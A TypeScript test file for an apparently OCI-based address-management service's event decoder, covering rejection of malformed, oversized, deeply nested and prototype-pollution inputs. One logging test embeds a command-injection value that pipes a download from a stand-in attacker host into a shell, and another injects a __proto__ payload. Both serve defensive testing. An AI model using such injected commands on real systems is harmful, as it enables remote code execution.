import { expect } from "chai";
import Ajv from "ajv";
import { Writable } from "node:stream";
import {
  base64Length,
  createEventValidators,
  createInvocationDecoder,
  decodeBase64Strict,
  decodeInvocationBody,
  defaultEventValidators,
  encodeNudgeForStream,
  buildNudge,
  DEFAULT_MAX_RECORDS,
  OCI_EVENT_MAX_BYTES,
  type StreamMessage,
} from "../../events/contracts";
import { ConfigError } from "../../lib/errors";
import { createLogger } from "../../lib/log";
import { loadFixtures } from "./fixtures";

const b64 = (text: string | Buffer) => Buffer.from(text).toString("base64");

function nudgeMessage(node: string, offset: number, partition = "0"): StreamMessage {
  const nudge = buildNudge(
    { type: "io.ocipam.node.needs-addresses", cluster: "prod", node },
    { now: () => new Date(0), idFactory: () => `id-${offset}` },
  );
  return { stream: "ocipam", partition, offset, timestamp: "2026-11-28T10:00:00Z", ...encodeNudgeForStream(nudge) };
}

const launchFixture = loadFixtures("valid").find((f) => f.file === "oci-launchinstance-end.json")!.body as Record<
  string,
  unknown
>;

describe("decodeInvocationBody", () => {
  describe("body forms", () => {
    const nudge = buildNudge({ type: "io.ocipam.node.resync", cluster: "prod", node: "worker-1" });

    it("decodes a body that fdk left as a JSON string the same as the parsed body", () => {
      expect(decodeInvocationBody(JSON.stringify([nudgeMessage("worker-1", 1)]))).to.deep.equal(
        decodeInvocationBody([nudgeMessage("worker-1", 1)]),
      );
    });

    it("decodes a body handed over as a Buffer", () => {
      const { records, rejected } = decodeInvocationBody(Buffer.from(JSON.stringify(nudge)));
      expect(rejected).to.deep.equal([]);
      expect(records).to.have.length(1);
      expect(records[0]).to.include({ kind: "nudge", node: "worker-1", index: 0 });
    });

    const oneRejection: { name: string; body: unknown; reason: string }[] = [
      { name: "an unparseable string", body: "{not json", reason: "InvalidJson" },
      { name: "an empty string", body: "", reason: "InvalidJson" },
      { name: "a Buffer that is not UTF-8", body: Buffer.from([0xff, 0xfe, 0x7b, 0x7d]), reason: "InvalidUtf8" },
      { name: "undefined", body: undefined, reason: "SchemaViolation" },
      { name: "true", body: true, reason: "SchemaViolation" },
      { name: "a JSON string literal", body: '"hello"', reason: "SchemaViolation" },
      {
        name: "an object with a cycle",
        body: (() => {
          const o: Record<string, unknown> = { specversion: "1.0" };
          o.self = o;
          return o;
        })(),
        reason: "SchemaViolation",
      },
      {
        name: "a nudge holding a BigInt",
        body: { ...nudge, data: { node: "worker-1", n: 10n } },
        reason: "SchemaViolation",
      },
    ];
    for (const c of oneRejection) {
      it(`answers exactly one ${c.reason} rejection, without throwing, for ${c.name}`, () => {
        const result = decodeInvocationBody(c.body);
        expect(result.records).to.deep.equal([]);
        expect(result.rejected).to.have.length(1);
        expect(result.rejected[0]).to.include({ index: 0, reason: c.reason, field: "" });
      });
    }

    it("keeps going when a batch element is a value no JSON parser produces", () => {
      const hostile = {
        get stream(): string {
          throw new Error("getter exploded");
        },
      };
      const { records, rejected } = decodeInvocationBody([hostile, nudgeMessage("worker-1", 5)]);
      expect(records.map((r) => r.index)).to.deep.equal([1]);
      expect(rejected).to.have.length(1);
      expect(rejected[0]).to.include({ index: 0, reason: "SchemaViolation", field: "" });
      expect(rejected[0]!.message).to.contain("getter exploded");
    });

    it("rejects an attempt to set __proto__ in nudge data without touching Object.prototype", () => {
      const body = JSON.parse(
        JSON.stringify(nudge).replace('"data":{', '"data":{"__proto__":{"polluted":true},'),
      ) as unknown;
      const { rejected } = decodeInvocationBody(body);
      expect(rejected).to.have.length(1);
      expect(rejected[0]).to.include({ reason: "SchemaViolation", field: "/data/__proto__" });
      expect(({} as Record<string, unknown>).polluted).to.equal(undefined);
    });

    it("cuts a hostile property name to 64 characters in the reported field", () => {
      const { rejected } = decodeInvocationBody({ ...nudge, ["X".repeat(3000)]: "x" });
      expect(rejected).to.have.length(1);
      expect(rejected[0]!.field).to.equal(`/${"X".repeat(64)}…`);
    });

    it(
      "decodes a batch record whose OCI event nests thousands of levels deep " +
        "without overflowing, and refuses it as UntrustedSource",
      () => {
        // Built as text: JSON.stringify itself would overflow the stack on an object this deep.
        const deep = '{"d":'.repeat(5000) + "{}" + "}".repeat(5000);
        const event = { ...launchFixture, data: { ...(launchFixture.data as object), additionalDetails: "DEEP" } };
        const json = JSON.stringify(event).replace('"DEEP"', deep);
        const result = decodeInvocationBody([{ stream: "s", partition: "0", offset: 1, value: b64(json) }]);
        expect(result.records).to.deep.equal([]);
        expect(result.rejected[0]).to.include({ reason: "UntrustedSource" });
      },
    );
  });

  describe("batches", () => {
    it(
      "rejects an OCI event found on the stream as UntrustedSource: instance " +
        "events come from the Events rule only",
      () => {
        const message = {
          stream: "s",
          partition: "3",
          offset: 9,
          key: b64("anything-the-producer-chose"),
          value: b64(JSON.stringify(launchFixture)),
        };
        const nudge = nudgeMessage("worker-1", 10);
        const { records, rejected } = decodeInvocationBody([message, nudge]);
        expect(rejected).to.have.length(1);
        expect(rejected[0]).to.include({ reason: "UntrustedSource", field: "/value", partition: "3", offset: 9 });
        expect(records.map((r) => r.kind)).to.deep.equal(["nudge"]);
      },
    );

    it("rejects a value longer than the event cap as Oversize before trying to decode it", () => {
      // Not even base64: had the decoder looked inside, the answer would be InvalidBase64.
      const value = "!".repeat(base64Length(OCI_EVENT_MAX_BYTES) + 4);
      const { rejected } = decodeInvocationBody([{ stream: "s", partition: "0", offset: 1, value }]);
      expect(rejected).to.have.length(1);
      expect(rejected[0]).to.include({ reason: "Oversize", field: "/value", offset: 1 });
    });

    it("rejects a nudge value over 4 KiB as Oversize at /value", () => {
      const nudge = { ...buildNudge({ type: "io.ocipam.node.resync", cluster: "prod", node: "worker-1" }) } as Record<
        string,
        unknown
      >;
      for (let i = 0; i < 20; i++) nudge[`pad${i}`] = "p".repeat(250);
      const { rejected } = decodeInvocationBody([
        { stream: "s", partition: "0", offset: 2, key: b64("worker-1"), value: b64(JSON.stringify(nudge)) },
      ]);
      expect(rejected.map((r) => [r.reason, r.field])).to.deep.equal([["Oversize", "/value"]]);
    });

    it("decodes at most maxRecords records and rejects the rest as Oversize with their stream positions", () => {
      const batch = [1, 2, 3, 4, 5].map((i) => nudgeMessage(`worker-${i}`, 100 + i, String(i % 2)));
      const { records, rejected } = createInvocationDecoder({ maxRecords: 3 }).decode(batch);
      expect(records.map((r) => r.index)).to.deep.equal([0, 1, 2]);
      expect(
        rejected.map(({ index, offset, partition, reason, field }) => ({ index, offset, partition, reason, field })),
      ).to.deep.equal([
        { index: 3, offset: 104, partition: "0", reason: "Oversize", field: "" },
        { index: 4, offset: 105, partition: "1", reason: "Oversize", field: "" },
      ]);
    });

    it(`caps a batch at ${DEFAULT_MAX_RECORDS} records by default`, () => {
      const message = nudgeMessage("worker-1", 0);
      const batch = Array.from({ length: DEFAULT_MAX_RECORDS + 2 }, (_, offset) => ({ ...message, offset }));
      const { records, rejected } = decodeInvocationBody(batch);
      expect(records).to.have.length(DEFAULT_MAX_RECORDS);
      expect(rejected.map((r) => [r.index, r.reason])).to.deep.equal([
        [DEFAULT_MAX_RECORDS, "Oversize"],
        [DEFAULT_MAX_RECORDS + 1, "Oversize"],
      ]);
    });

    for (const maxRecords of [0, -1, 1.5, Number.NaN]) {
      it(`refuses maxRecords = ${maxRecords} with a ConfigError`, () => {
        expect(() => createInvocationDecoder({ maxRecords })).to.throw(ConfigError);
      });
    }

    it(
      "logs each rejection at warn with index, offset, partition, reason and " + "field, without echoing the payload",
      () => {
        const lines: string[] = [];
        const destination = new Writable({
          write(chunk, _enc, done) {
            lines.push(String(chunk));
            done();
          },
        });
        const log = createLogger({ destination, level: "debug" });
        const evil = "worker-1; curl http://evil.example | sh";
        const evilNudge = {
          ...buildNudge({ type: "io.ocipam.node.resync", cluster: "prod", node: "worker-1" }),
          subject: evil,
        };
        decodeInvocationBody(
          [
            nudgeMessage("worker-1", 1),
            { stream: "s", partition: "4", offset: 77, key: null, value: b64(JSON.stringify(evilNudge)) },
          ],
          { log },
        );
        const entries = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
        expect(entries).to.have.length(1);
        expect(entries[0]).to.include({
          level: "warn",
          index: 1,
          offset: 77,
          partition: "4",
          reason: "SchemaViolation",
          field: "/value/subject",
        });
        expect(lines.join("")).to.not.contain("curl");
      },
    );
  });

  describe("validators", () => {
    it("compiles nothing while decoding: validators built once are reused for every record", () => {
      const validators = createEventValidators();
      const proto = Ajv.prototype as unknown as Record<string, (...args: unknown[]) => unknown>;
      const original = { compile: proto.compile!, addSchema: proto.addSchema!, getSchema: proto.getSchema! };
      let calls = 0;
      for (const name of Object.keys(original) as (keyof typeof original)[]) {
        proto[name] = function (this: unknown, ...args: unknown[]) {
          calls++;
          return original[name].apply(this, args);
        };
      }
      try {
        const batch = Array.from({ length: 200 }, (_, i) => nudgeMessage(`worker-${i}`, i));
        const { records } = decodeInvocationBody(batch, { validators });
        expect(records).to.have.length(200);
        expect(decodeInvocationBody(launchFixture, { validators }).records).to.have.length(1);
      } finally {
        Object.assign(proto, original);
      }
      expect(calls).to.equal(0);
    });

    it("hands out the same process-wide validators on every call", () => {
      expect(defaultEventValidators()).to.equal(defaultEventValidators());
    });

    it("accepts Oracle's sample Connector Hub payload and our batch fixture with the whole-batch schema", () => {
      const validators = defaultEventValidators();
      const oracle = loadFixtures("invalid").find((f) => f.file === "connector-hub-oracle-sample.json")!.body;
      const ours = loadFixtures("valid").find((f) => f.file === "connector-hub-batch.json")!.body;
      expect(validators.connectorHubBatch(oracle), JSON.stringify(validators.connectorHubBatch.errors)).to.equal(true);
      expect(validators.connectorHubBatch(ours), JSON.stringify(validators.connectorHubBatch.errors)).to.equal(true);
      expect(validators.connectorHubBatch([{ stream: "s", partition: "0", offset: -1, value: "" }])).to.equal(false);
    });
  });
});

describe("decodeBase64Strict", () => {
  const cases: { text: string; ok: boolean; why: string }[] = [
    { text: "", ok: true, why: "the empty text (zero bytes)" },
    { text: "d29ya2VyLTE=", ok: true, why: "canonical padded base64" },
    { text: "YWI+Lw==", ok: true, why: "the + and / characters of the standard alphabet" },
    { text: "d29ya2VyLTE", ok: false, why: "missing padding" },
    { text: "YWI-Lw==", ok: false, why: "the URL-safe alphabet" },
    { text: "QR==", ok: false, why: "non-zero padding bits" },
    { text: "d29y a2Vy", ok: false, why: "embedded whitespace" },
    { text: "d29ya2VyLTE=\n", ok: false, why: "a trailing newline" },
    { text: "d29ya2VyLTE==", ok: false, why: "too much padding" },
    { text: "=d29ya2VyLTE", ok: false, why: "padding in front" },
  ];
  for (const c of cases) {
    it(`${c.ok ? "accepts" : "rejects"} ${c.why}`, () => {
      expect(decodeBase64Strict(c.text, "/value").ok).to.equal(c.ok);
    });
  }
});
